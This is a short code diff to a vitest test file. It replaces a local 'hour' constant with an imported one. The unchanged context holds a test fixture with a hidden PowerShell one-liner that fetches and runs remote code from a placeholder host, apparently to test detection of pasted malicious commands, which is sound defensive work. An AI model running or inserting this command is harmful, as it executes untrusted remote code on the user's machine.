@@ -1,3 +1,4 @@
+import { hour } from '@porchlight/contract/time.ts';
 import { noUnlistedPolicy, type UnlistedPolicy } from '@porchlight/contract/unlisted-protection.ts';
 import { expect, it, onTestFinished } from 'vitest';
 import { WAITING_MAX } from '../protection/waiting-starts.ts';
@@ -6,7 +7,6 @@ import { browserOf } from '../testing/browser.ts';
 import type { TestServer } from '../testing/server.ts';
 import { until, untilCount } from '../testing/until.ts';
 
-const hour = 3_600_000;
 const pasted = 'powershell -w hidden -c "iex (irm https://evil.example/a)"';
 const ordinary = 'powershell.exe -NoProfile -File C:\\Tools\\backup.ps1';
 
